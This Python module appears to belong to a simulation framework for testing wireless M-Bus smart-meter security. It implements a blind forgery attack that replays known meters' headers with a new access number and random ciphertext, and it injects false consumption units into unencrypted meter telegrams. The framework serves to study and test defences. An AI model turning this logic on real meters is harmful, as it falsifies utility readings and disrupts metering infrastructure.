"""Send random ciphertext in the name of known meters."""

from __future__ import annotations

import hashlib
from dataclasses import dataclass, field

from attacks.attack import Can, Outcome, Steps, attack, form
from attacks.parts import forgery
from attacks.parts.sent_frames import Shot, outcomes_of
from attacks.parts.survey import Known, Survey
from attacks.reach import Reach
from sim.core.vocabulary import SECURITIES
from sim.truth.ground_truth import Truth
from wmbus.telegram import parse

BLIND = "random ciphertext under a fresh access number"
UNITS = 4_711


@attack(
    id="radio.blind_forgery",
    title="Send random ciphertext in the name of known meters",
    threats=["L31"],
    can=Can.HEAR | Can.SPEAK,
    ics=["T0856"],
    weakness={"portal.checks": [], "portal.strict": False},
    seen_as="refused: not readable with the meter's key, or its MAC does not fit",
    forms={
        BLIND: form(changed="access number, ciphertext"),
        f"{BLIND} / none": form("mode 0", "access number, units in clear"),
    },
)
@dataclass
class BlindForgery:
    """Repeat a meter's header under the next access number, with noise where the ciphertext was: without a key that is
    all one can write. In mode 5 two check bytes stand against it, one try in 65 536 succeeds; in mode 7 a MAC of eight
    bytes. Where nothing is encrypted the same telegram carries chosen units, which shows that it arrives."""

    learn_s: float = 300.0
    meters_each: int = 6
    rounds: int = 10
    survey: Survey = field(default_factory=Survey)
    shots: list[Shot] = field(default_factory=list)

    def run(self, reach: Reach) -> Steps:
        reach.listen(self.survey.note)
        yield reach.wait_until(self.learn_s)
        targets = [one for security in SECURITIES for one in self.survey.loudest(security)[: self.meters_each]]
        for turn in range(1, self.rounds + 1):
            for known in targets:
                yield reach.wait(0.4)
                original = known.recordings[-1].telegram
                forged = _blind(known, original, turn)
                self.shots.append(Shot(BLIND, known.security, known.address, reach.speak(forged), original))

    def outcomes(self, truth: Truth) -> list[Outcome]:
        return outcomes_of(self.shots, truth)


def _blind(known: Known, original: bytes, turn: int) -> bytes:
    frame = forgery.with_access_number(original, (forgery.access_number(original) + turn) % 256)
    if known.security == "none":
        return forgery.with_units(frame, UNITS + turn, known.maker)
    start = parse(frame).payload_offset
    return frame[:start] + hashlib.shake_256(frame).digest(len(frame) - start)
